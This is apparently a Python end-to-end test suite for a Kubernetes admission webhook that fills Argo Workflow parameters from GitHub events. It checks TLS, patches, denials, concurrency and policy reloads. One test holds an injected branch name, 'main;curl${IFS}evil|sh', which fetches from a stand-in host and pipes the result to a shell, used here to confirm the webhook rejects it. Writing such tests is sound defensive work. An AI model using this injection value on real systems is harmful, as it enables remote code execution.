"""End-to-end: the real server over TLS, answered reviews applied with python3-jsonpatch."""
import http.client
import json
import os
import socket
import ssl
import subprocess
import threading
import unittest

import jsonpatch

from harness import EVENTS_DIR, PROMPTS_DIR, WebhookServer, decode_patch, event_text, wait_for, workflow


def arguments(obj):
    return {p["name"]: p.get("value") for p in obj["spec"]["arguments"]["parameters"]}


class AdmissionOverTls(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.server = WebhookServer().__enter__()

    @classmethod
    def tearDownClass(cls):
        code = cls.server.stop()
        cls.server.tmp.cleanup()
        assert code == 0, "webhook exit code %r after SIGTERM" % code

    def mutate(self, obj):
        status, response = self.server.admit(obj)
        self.assertEqual(status, 200, response)
        return response

    def test_pull_request_event_is_filled_and_patch_applies(self):
        wf = workflow([("github-app", "clippy"), ("event", event_text("pull_request.opened"))])
        response = self.mutate(wf)
        self.assertTrue(response["allowed"])
        mutated = jsonpatch.apply_patch(wf, decode_patch(response))
        args = arguments(mutated)
        self.assertEqual(args["owner"], "Codertocat")
        self.assertEqual(args["repo"], "Hello-World")
        self.assertEqual(args["repoFullName"], "Codertocat/Hello-World")
        self.assertEqual(args["ref"], "changes")
        self.assertEqual(args["sha"], "ec26c3e57ca3a959ca5aad62de7213c562f8c821")
        self.assertEqual(args["prNumber"], "2")
        # The agent pod's path (policy promptsDir), not the --prompts-dir the webhook reads from (issue 13, 5).
        self.assertEqual(args["systemPromptPath"], "/etc/agents/clippy_system-prompt.md")
        self.assertEqual(args["github-app"], "clippy")  # untouched
        labels = mutated["metadata"]["labels"]
        self.assertEqual(labels, {"taskmaster.io/github-app": "clippy", "taskmaster.io/repo": "Codertocat.Hello-World",
                                  "taskmaster.io/pr-number": "2"})
        sources = json.loads(mutated["metadata"]["annotations"]["taskmaster.io/value-sources"])
        self.assertEqual(sources["owner"], "event:.repository.owner.login")
        self.assertEqual(response["auditAnnotations"]["decision"], "mutated")

        # Re-invocation (reinvocationPolicy IfNeeded): nothing more to change.
        again = self.mutate(mutated)
        self.assertTrue(again["allowed"])
        self.assertNotIn("patch", again)
        self.assertNotIn("patchType", again)
        # The validating pass accepts the result and never patches.
        status, validated = self.server.admit(mutated, endpoint="/validate")
        self.assertEqual(status, 200)
        self.assertTrue(validated["allowed"])
        self.assertNotIn("patch", validated)

    def test_every_fixture_is_admitted_and_its_patch_applies(self):
        for name in sorted(os.listdir(EVENTS_DIR)):
            with self.subTest(name):
                wf = workflow([("github-app", "rex"), ("event", event_text(name[:-5]))])
                response = self.mutate(wf)
                self.assertTrue(response["allowed"], response.get("status"))
                mutated = jsonpatch.apply_patch(wf, decode_patch(response))
                self.assertTrue(arguments(mutated)["repoFullName"])
                self.assertTrue(arguments(mutated)["ref"])

    def test_user_parameters_win_with_a_warning(self):
        wf = workflow([("github-app", "rex"), ("ref", "hotfix"), ("event", event_text("push.branch"))])
        response = self.mutate(wf)
        mutated = jsonpatch.apply_patch(wf, decode_patch(response))
        self.assertEqual(arguments(mutated)["ref"], "hotfix")
        self.assertEqual(len(response["warnings"]), 1)
        self.assertIn("'hotfix' set by the user is kept", response["warnings"][0])

    def test_fork_pull_request_uses_the_pull_ref(self):
        wf = workflow([("github-app", "qa"), ("event", event_text("pull_request.opened.from-fork"))])
        mutated = jsonpatch.apply_patch(wf, decode_patch(self.mutate(wf)))
        self.assertEqual(arguments(mutated)["ref"], "refs/pull/217/head")
        self.assertEqual(arguments(mutated)["repoFullName"], "listendev/lstn")

    def test_seed_error_messages_are_denials_with_403(self):
        cases = [
            ([("github-app", "invalid-app"), ("event", event_text("push.branch"))],
             "Error: Invalid github-app 'invalid-app'. Must be one of: rex, clippy, qa, triage, security"),
            ([("github-app", "rex"), ("event", "{}")],
             "Error: Repository information not available from event payload and no git context found"),
        ]
        for parameters, message in cases:
            for endpoint in ("/mutate", "/validate"):
                with self.subTest(message=message, endpoint=endpoint):
                    status, response = self.server.admit(workflow(parameters), endpoint=endpoint)
                    self.assertEqual(status, 200)
                    self.assertFalse(response["allowed"])
                    self.assertEqual(response["status"]["code"], 403)
                    self.assertEqual(response["status"]["message"], message)
                    self.assertNotIn("patch", response)

    def test_malformed_event_is_a_warning_not_a_failure(self):
        wf = workflow([("github-app", "rex"), ("repoFullName", "acme/tools"), ("event", '{"repository": ')])
        response = self.mutate(wf)
        self.assertTrue(response["allowed"])
        # README: warning `event ignored, not valid JSON: ...`, in full (warnings are cut at 120 bytes).
        self.assertIn("event ignored, not valid JSON: The JSON document has an improper structure: missing or "
                      "superfluous commas, braces, mi...", response["warnings"])
        self.assertEqual(arguments(jsonpatch.apply_patch(wf, decode_patch(response)))["ref"], "main")

    def test_hostile_branch_name_is_denied_naming_the_field(self):
        event = json.loads(event_text("pull_request.opened"))
        event["pull_request"]["head"]["ref"] = "main;curl${IFS}evil|sh"
        status, response = self.server.admit(workflow([("github-app", "rex"), ("event", json.dumps(event))]))
        self.assertEqual(status, 200)
        self.assertFalse(response["allowed"])
        self.assertIn("Invalid ref", response["status"]["message"])

    def test_objects_it_does_not_serve_are_allowed_untouched(self):
        other = workflow([("message", "hello")], template="hello-world")
        response = self.mutate(other)
        self.assertEqual(response, {"uid": response["uid"], "allowed": True})
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "default"}}
        self.assertEqual(self.mutate(pod)["allowed"], True)

    def test_bad_requests_get_clear_4xx_and_the_server_keeps_serving(self):
        good = workflow([("github-app", "rex"), ("repoFullName", "a/b")])
        from harness import review
        cases = [
            # README's errors table: HTTP 400 `invalid AdmissionReview: ...`, 415, 405, 404; each in full.
            ("POST", "/mutate", b"{not json", "application/json", 400,
             "invalid AdmissionReview: body is not valid JSON: The JSON document has an improper structure: missing or superfluous commas, braces, missing keys, etc."),
            ("POST", "/mutate", b"[]", "application/json", 400, "invalid AdmissionReview: body is not an AdmissionReview object"),
            ("POST", "/mutate", json.dumps(review(good)).encode(), "text/plain", 415, "Content-Type must be application/json"),
            ("POST", "/mutate", json.dumps(dict(review(good), apiVersion="admission.k8s.io/v1beta1")).encode(),
             "application/json", 400, "invalid AdmissionReview: apiVersion is 'admission.k8s.io/v1beta1', expected "
                                      "admission.k8s.io/v1 (set admissionReviewVersions: [v1])"),
            ("POST", "/validate", json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                                               "request": {"kind": {}}}).encode(), "application/json", 400,
             "invalid AdmissionReview: request.uid is missing or empty"),
            ("POST", "/mutate", json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"}).encode(),
             "application/json", 400, "invalid AdmissionReview: request is missing or not an object"),
            ("GET", "/mutate", None, None, 405, "method not allowed: use POST"),
            ("GET", "/nowhere", None, None, 404, "no such endpoint: /nowhere"),
            ("POST", "/mutate", b"[" * 5000 + b"]" * 5000, "application/json", 400,
             "invalid AdmissionReview: body is not valid JSON: JSON nested more than 128 levels deep"),
        ]
        for method, path, body, content_type, status, text in cases:
            with self.subTest(path=path, status=status, text=text):
                got, answer = self.server.curl(method, path, body, content_type=content_type)
                self.assertEqual(got, status, answer)
                self.assertEqual(json.loads(answer), {"code": status, "error": text})
        # A body over the limit (3 MiB) is refused with 413 before it is parsed.
        got, answer = self.server.curl("POST", "/mutate", b" " * (4 << 20))
        self.assertEqual(got, 413, answer)
        self.assertEqual(self.server.get("/healthz")[0], 200)
        self.assertTrue(self.server.admit(good)[1]["allowed"])

    def test_health_and_readiness(self):
        self.assertEqual(self.server.get("/healthz"), (200, "ok\n"))
        self.assertEqual(self.server.get("/readyz"), (200, "ok\n"))

    def test_tls_1_2_and_1_3_only(self):
        def handshake(version_flag):
            result = subprocess.run(
                ["openssl", "s_client", "-connect", "127.0.0.1:%d" % self.server.port, version_flag,
                 "-CAfile", self.server.ca, "-verify_return_error", "-servername", "localhost"],
                input=b"", capture_output=True, timeout=20)
            return result.returncode
        self.assertEqual(handshake("-tls1_3"), 0)
        self.assertEqual(handshake("-tls1_2"), 0)
        self.assertNotEqual(handshake("-tls1_1"), 0)

    def test_certificate_names_the_service(self):
        text = subprocess.run(["openssl", "x509", "-in", os.path.join(self.server.certs, "tls.crt"), "-noout", "-ext",
                               "subjectAltName"], capture_output=True, text=True, check=True).stdout
        for name in ("DNS:coderun-webhook.coderun-webhook.svc", "DNS:coderun-webhook.coderun-webhook.svc.cluster.local",
                     "IP Address:127.0.0.1"):
            self.assertIn(name, text)

    def test_many_keep_alive_connections_are_served_at_once(self):
        """Many more open keep-alive connections than event-loop threads, each sending many
        requests without reconnecting (a thread-per-connection server with 8 workers stalls here)."""
        context = ssl.create_default_context(cafile=self.server.ca)
        body = json.dumps(__import__("harness").review(workflow([("github-app", "rex"), ("repoFullName", "a/b")])))
        connections = 24
        requests_each = 20
        barrier = threading.Barrier(connections)
        failures = []

        def client():
            try:
                conn = http.client.HTTPSConnection("127.0.0.1", self.server.port, context=context, timeout=5)
                conn.connect()
                barrier.wait(timeout=10)  # every connection open before any request
                sock = conn.sock
                for _ in range(requests_each):
                    conn.request("POST", "/mutate", body, {"Content-Type": "application/json"})
                    response = conn.getresponse()
                    data = response.read()
                    if response.status != 200 or not json.loads(data)["response"]["allowed"]:
                        failures.append("status %d" % response.status)
                    if response.getheader("Connection", "").lower() == "close":
                        failures.append("server closed the keep-alive connection")
                if conn.sock is not sock:
                    failures.append("reconnected")
                conn.close()
            except (OSError, threading.BrokenBarrierError, http.client.HTTPException) as error:
                failures.append(repr(error))

        threads = [threading.Thread(target=client) for _ in range(connections)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        self.assertEqual(failures, [])

    def test_logs_are_one_json_object_per_line(self):
        self.server.admit(workflow([("github-app", "rex"), ("repoFullName", "a/b")]), uid="log-check-uid")
        lines = [l for l in self.server.log_lines() if l.get("uid") == "log-check-uid"]
        self.assertEqual(len(lines), 1)
        line = lines[0]
        for key in ("time", "level", "msg", "kind", "namespace", "name", "app", "decision", "latency_us"):
            self.assertIn(key, line)
        self.assertEqual(line["decision"], "mutated")


class WorkflowPlumbingModes(unittest.TestCase):
    """(issue 15) workflowPlumbing over TLS: the shipped policy (none) adds no spec.volumes and no
    spec.podSpecPatch to a Workflow and leaves the user's as written; podSpecPatch adds them and
    says so once in the log at start; a CodeRun gets its plumbing in both."""

    USER_PATCH = "containers:\n  - name: main\n    resources: {limits: {memory: \"{{workflow.parameters.m}}\"}}\n"

    def policy_file(self, tmp, mode):
        with open(os.path.join(os.path.dirname(PROMPTS_DIR), "policy.yaml"), encoding="utf-8") as f:
            text = f.read()
        self.assertIn("\nworkflowPlumbing: none\n", text)
        path = os.path.join(tmp, "policy-%s.yaml" % mode)
        with open(path, "w", encoding="utf-8") as f:
            f.write(text.replace("\nworkflowPlumbing: none\n", "\nworkflowPlumbing: %s\n" % mode))
        return path

    def admitted(self, server, obj):
        status, response = server.admit(obj)
        self.assertEqual(status, 200, response)
        self.assertTrue(response["allowed"], response)
        mutated = jsonpatch.apply_patch(obj, decode_patch(response)) if "patch" in response else obj
        status, again = server.admit(mutated)
        self.assertEqual(status, 200, again)
        self.assertNotIn("patch", again, "reinvocation changes nothing")
        return mutated

    def check_coderun(self, server):
        run = {"apiVersion": "taskmaster.io/v1", "kind": "CodeRun",
               "metadata": {"generateName": "run-", "namespace": "argo"},
               "spec": {"github": {"appName": "rex"}, "event": json.loads(event_text("pull_request.opened"))}}
        spec = self.admitted(server, run)["spec"]
        self.assertEqual([c["name"] for c in spec["initContainers"]], ["gh-token"])
        self.assertEqual(len(spec["volumes"]), 4)
        self.assertEqual(len(spec["volumeMounts"]), 4)

    def warnings(self, server):
        return [line for line in server.log_lines()
                if line.get("msg", "").startswith("workflowPlumbing is podSpecPatch")]

    def test_none_is_the_shipped_default(self):
        with WebhookServer() as server:
            for own in (None, self.USER_PATCH, "a: &x 1\nb: *x\n"):
                with self.subTest(user_pod_spec_patch=own):
                    wf = workflow([("github-app", "clippy"), ("event", event_text("pull_request.opened"))])
                    if own is not None:
                        wf["spec"]["podSpecPatch"] = own
                    mutated = self.admitted(server, wf)
                    self.assertEqual(arguments(mutated)["repoFullName"], "Codertocat/Hello-World")
                    self.assertIn("taskmaster.io/value-sources", mutated["metadata"]["annotations"])
                    self.assertNotIn("volumes", mutated["spec"])
                    self.assertEqual(mutated["spec"].get("podSpecPatch"), own)
            self.check_coderun(server)
            self.assertEqual(self.warnings(server), [])
            listening = [line for line in server.log_lines() if line.get("msg") == "listening"]
            self.assertEqual(listening[0]["workflow_plumbing"], "none")

    def test_pod_spec_patch_mode_merges_and_warns_once(self):
        with WebhookServer(policy=self.policy_file(self._tmp(), "podSpecPatch")) as server:
            wf = workflow([("github-app", "clippy"), ("event", event_text("pull_request.opened"))])
            wf["spec"]["podSpecPatch"] = self.USER_PATCH
            mutated = self.admitted(server, wf)
            self.assertEqual(len(mutated["spec"]["volumes"]), 4)
            patch = json.loads(mutated["spec"]["podSpecPatch"])
            self.assertEqual([c["name"] for c in patch["initContainers"]], ["gh-token"])
            self.assertEqual(patch["containers"][0]["resources"]["limits"]["memory"], "{{workflow.parameters.m}}")
            self.check_coderun(server)
            warnings = self.warnings(server)
            self.assertEqual(len(warnings), 1, warnings)
            self.assertIn("templateReferencing Strict or Secure", warnings[0]["msg"])
            self.assertIn("every pod", warnings[0]["msg"])

    def _tmp(self):
        import tempfile
        tmp = tempfile.TemporaryDirectory()
        self.addCleanup(tmp.cleanup)
        return tmp.name


class PolicyReloadUnderLoad(unittest.TestCase):
    def test_reload_changes_decisions_with_no_failed_request(self):
        import shutil
        import tempfile
        import time
        from harness import SOURCE_DIR
        with tempfile.TemporaryDirectory() as tmp:
            policy = os.path.join(tmp, "policy.yaml")
            shutil.copy(os.path.join(SOURCE_DIR, "policy", "policy.yaml"), policy)

            def write_policy(text):
                with open(policy + ".new", "w") as f:
                    f.write(text)
                os.rename(policy + ".new", policy)  # as a ConfigMap update swaps files

            with WebhookServer(policy=policy) as server:
                context = ssl.create_default_context(cafile=server.ca)
                body = json.dumps(__import__("harness").review(workflow([("github-app", "qa"), ("repoFullName", "a/b")])))
                stop = threading.Event()
                results, failures, per_client = [], [], []

                def client():
                    mine = []
                    per_client.append(mine)
                    conn = http.client.HTTPSConnection("127.0.0.1", server.port, context=context, timeout=10)
                    while not stop.is_set():
                        try:
                            conn.request("POST", "/mutate", body, {"Content-Type": "application/json"})
                            response = conn.getresponse()
                            data = response.read()
                            if response.status != 200:
                                failures.append(response.status)
                            else:
                                allowed = json.loads(data)["response"]["allowed"]
                                results.append((time.monotonic(), allowed))
                                mine.append(allowed)
                        except (OSError, http.client.HTTPException) as error:
                            failures.append(repr(error))
                            conn = http.client.HTTPSConnection("127.0.0.1", server.port, context=context, timeout=10)
                    conn.close()

                threads = [threading.Thread(target=client) for _ in range(4)]
                for t in threads:
                    t.start()
                try:
                    # Every client has been answered (allowed) before the change: polled, not slept.
                    self.assertTrue(wait_for(lambda: len(per_client) == 4 and all(per_client)), per_client)
                    write_policy("allowedApps: [rex, clippy]\n")
                    changed_at = time.monotonic()
                    self.assertTrue(wait_for(lambda: any(t > changed_at and not a for t, a in list(results)),
                                             timeout=10), "qa still allowed 10 s after the change")
                    # README: the policy file is re-read within a second of changing. The first denial is
                    # answered after the reload; a second of margin for a loaded machine.
                    reload_s = min(t for t, a in list(results) if t > changed_at and not a) - changed_at
                    print("\npolicy reload seen %.3f s after the file changed (README: within a second)" % reload_s)
                    self.assertLess(reload_s, 2.0)
                    # Each client has seen the new policy before the next change.
                    self.assertTrue(wait_for(lambda: all(m and m[-1] is False for m in per_client)), per_client)
                    # A bad policy keeps the last good one, and /readyz says so.
                    write_policy("allowedApps: 12\n")
                    self.assertTrue(wait_for(lambda: "reload rejected" in server.get("/readyz")[1], timeout=10))
                    # And each client is answered a few more times after the rejected reload.
                    counts = [len(m) for m in per_client]
                    self.assertTrue(wait_for(lambda: all(len(m) >= c + 3 for m, c in zip(per_client, counts))),
                                    per_client)
                finally:
                    stop.set()
                    for t in threads:
                        t.join()
                self.assertEqual(failures, [])
                self.assertTrue(results[0][1], "qa is allowed before the reload")
                self.assertFalse(results[-1][1], "qa is denied after the reload, and still after the bad one")
                for mine in per_client:  # each client's own sequence: allowed..., then denied...
                    flips = sum(1 for a, b in zip(mine, mine[1:]) if a != b)
                    self.assertEqual(flips, 1, "decisions change once, at the reload")
                status, text = server.get("/readyz")
                self.assertEqual(status, 200)
                self.assertIn("reload rejected", text)
                self.assertIn("$.allowedApps", text)
                messages = [l["msg"] for l in server.log_lines()]
                self.assertIn("policy reloaded", messages)
                self.assertIn("policy reload rejected; keeping the last good policy", messages)


class Shutdown(unittest.TestCase):
    def test_sigterm_exits_zero(self):
        with WebhookServer() as server:
            self.assertEqual(server.get("/healthz")[0], 200)
            self.assertEqual(server.stop(), 0)
            self.assertTrue(any(l.get("msg") == "stopped" for l in server.log_lines()))


if __name__ == "__main__":
    unittest.main()
